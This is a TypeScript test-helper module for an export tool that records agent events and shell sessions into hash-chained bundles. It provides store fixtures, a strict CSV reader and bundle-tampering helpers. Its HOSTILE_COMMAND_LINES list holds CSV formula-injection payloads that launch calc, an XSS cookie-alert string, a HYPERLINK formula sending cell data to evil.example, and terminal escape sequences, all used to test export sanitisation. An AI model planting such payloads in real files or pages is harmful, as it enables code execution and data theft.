// For the export tests (formats, bundles, verify, the CLI): real collector stores holding real hash
// chains — two agents, a recorded shell session, hostile text where attackers put it — a strict CSV
// reader, and the edits someone holding a bundle can make to it, manifest re-signed to match.
import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { v7 as uuidv7 } from 'uuid';
import { jsonLine, type RecordEntry } from '../export.ts';
import { SHELL_TOOL } from '../protocol/index.ts';
import type { WireRecord } from '../protocol/wire.ts';
import { sha256Hex, TestChain, testCollectorAlert } from '../store/contract.ts';
import type { CollectorAlert, Store } from '../store/types.ts';
import { HeadTracker, MANIFEST_FILE, manifestDigest, type Manifest } from './manifest.ts';

/** Stores the chain's records (all, or those given) for the agent, as ingest would. */
export function deliver(store: Store, chain: TestChain, agentId: string, records?: readonly WireRecord[]): void {
  if (!store.agent(agentId)) store.createAgent({ id: agentId, name: agentId, hostId: null, keyHash: sha256Hex(agentId), enrolledWith: 'tok' });
  store.claimStream(chain.stream, agentId);
  store.commit(chain.commit(records));
}

/** A recorded shell session on the chain: its start, recording chunks, a command, and (unless `open`) its end. */
export function shellSession(chain: TestChain, sessionId: string, options: { chunks: string[]; open?: boolean; commandLine?: string }): void {
  const base = { host: chain.host, product: 'linux' as const };
  const startTime = chain.timeOf(chain.records.length + 1);
  chain.append({
    ...base, id: uuidv7(), time: startTime, category: 'remote_session',
    fields: { SessionId: sessionId, Action: 'start', Protocol: 'pty', Tool: SHELL_TOOL, User: 'vendor1', Ticket: 'CHG-1042', StartTime: startTime, Width: 100, Height: 30, Term: 'xterm-256color', Image: '/bin/bash' },
  });
  options.chunks.forEach((data, chunk) => {
    chain.append({ ...base, id: uuidv7(), time: chain.timeOf(chain.records.length + 1), category: 'session_recording', fields: { SessionId: sessionId, Chunk: chunk, Data: data } });
  });
  chain.append({
    ...base, id: uuidv7(), time: chain.timeOf(chain.records.length + 1), category: 'shell_command',
    fields: { SessionId: sessionId, CommandLine: options.commandLine ?? 'systemctl restart plc-gateway', User: 'vendor1' },
  });
  if (options.open) return;
  chain.append({
    ...base, id: uuidv7(), time: chain.timeOf(chain.records.length + 1), category: 'remote_session',
    fields: { SessionId: sessionId, Action: 'end', Protocol: 'pty', Tool: SHELL_TOOL, User: 'vendor1', EndedBy: 'exit', ExitCode: 0, Chunks: options.chunks.length },
  });
}

/** Command lines an attacker on a host can make the agent report. */
export const HOSTILE_COMMAND_LINES = [
  '=cmd|\' /c calc\'!A1',
  '+1+1',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
  'echo "a","b";=HYPERLINK("http://evil.example/?"&A1,"click")',
  'printf \'\u001b[2J\u001b[1;1H\u001b]0;owned\u0007\u001b[31mred\u001b[0m\'',
  'line one\r\nline two\nline three\rend',
  `bash -c '${'A'.repeat(32_700)}'`, // near the field limit (32,768 characters); its record column is past Excel's 32,767 per cell
  '=\u2028"quoted" ,; \u0000 nul',
];

export interface EvidenceStore {
  /** Agent ag-a on host h1 (hmi-1): events with hostile command lines, an alert, a recorded shell session, more events. */
  a: TestChain;
  /** Agent ag-b on host h2 (hmi-2): three events, later. */
  b: TestChain;
  sessionId: string;
  collectorAlert: CollectorAlert;
}

/** The usual store of these tests; times run one second apart from 10:00:00 (stream a) and 11:00:00 (stream b). */
export function fillEvidenceStore(store: Store, options: { hostile?: readonly string[] } = {}): EvidenceStore {
  const a = new TestChain('stream-a-0001', { host: { id: 'h1', name: 'hmi-1' }, startTime: '2026-03-01T10:00:00.000Z' });
  for (const commandLine of options.hostile ?? HOSTILE_COMMAND_LINES.slice(0, 3)) a.event({ commandLine });
  a.alert({ sessionId: 'ssh-9' });
  const sessionId = 'shell-0193aa00-0000-7000-8000-000000000001';
  shellSession(a, sessionId, { chunks: ['[0.1, "o", "$ "]\n[0.9, "i", "uptime\\r"]\n', '[1.0, "o", "uptime\\r\\n 10:00:01 up 3 days\\r\\n$ "]\n'] });
  a.event({ commandLine: 'bash -i' });
  const b = new TestChain('stream-b-0001', { host: { id: 'h2', name: 'hmi-2' }, startTime: '2026-03-01T11:00:00.000Z' });
  b.event();
  b.event({ sessionId: 'ssh-2' });
  b.event();
  deliver(store, a, 'ag-a');
  deliver(store, b, 'ag-b');
  const collectorAlert = testCollectorAlert({ time: '2026-03-01T10:30:00.000Z', agentId: 'ag-a', stream: 'stream-a-0001', summary: '=HYPERLINK("http://evil.example")' });
  store.addAlert(collectorAlert);
  return { a, b, sessionId, collectorAlert };
}

/**
 * A strict RFC 4180 reader: CRLF after every row, a quote only to open a cell, `""` inside quotes.
 * Anything else (a bare CR, LF or quote in an unquoted cell, a row without its CRLF) throws.
 */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let opened = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c !== '"') cell += c;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (c === '"' && cell === '' && !opened) {
      quoted = true;
      opened = true;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
      opened = false;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      opened = false;
      i++;
    } else if (c === '\r' || c === '\n' || c === '"' || opened) {
      throw new Error(`CSV: ${JSON.stringify(c)} at offset ${i} outside quotes`);
    } else cell += c;
  }
  if (quoted || cell !== '' || row.length > 0) throw new Error('CSV: the last row does not end with CRLF');
  return rows;
}

/** Rewrites a records file of a bundle with the entries `change` returns (in the export's own spelling). */
export function editRecords(dir: string, file: string, change: (entries: RecordEntry[]) => RecordEntry[]): void {
  const entries = readFileSync(join(dir, file), 'utf8').split('\n').filter((line) => line !== '').map((line) => JSON.parse(line) as RecordEntry);
  writeFileSync(join(dir, file), change(entries).map((entry) => `${jsonLine(entry)}\n`).join(''));
}

/**
 * Makes the manifest agree with the files as they now are — their SHA-256 and size, the record count and
 * the chain heads as the exporter would compute them — and re-signs it: what anyone holding the bundle can do.
 */
export function resignBundle(dir: string): Manifest {
  const manifest = JSON.parse(readFileSync(join(dir, MANIFEST_FILE), 'utf8')) as Manifest;
  manifest.records = 0;
  manifest.streams = [];
  for (const file of manifest.files) {
    const bytes = readFileSync(join(dir, file.path));
    file.sha256 = createHash('sha256').update(bytes).digest('hex');
    file.bytes = bytes.length;
    if (file.role !== 'records') continue;
    const heads = new HeadTracker(file.path);
    for (const line of bytes.toString('utf8').split('\n')) {
      if (line === '') continue;
      const entry = JSON.parse(line) as RecordEntry;
      const record = entry.record as { hash: string; prev: string };
      heads.add(entry.agentId, entry.stream, entry.seq, record.hash, record.prev);
      manifest.records++;
    }
    manifest.streams.push(...heads.heads());
  }
  manifest.digest = manifestDigest(manifest);
  writeFileSync(join(dir, MANIFEST_FILE), `${JSON.stringify(manifest, null, 2)}\n`);
  return manifest;
}
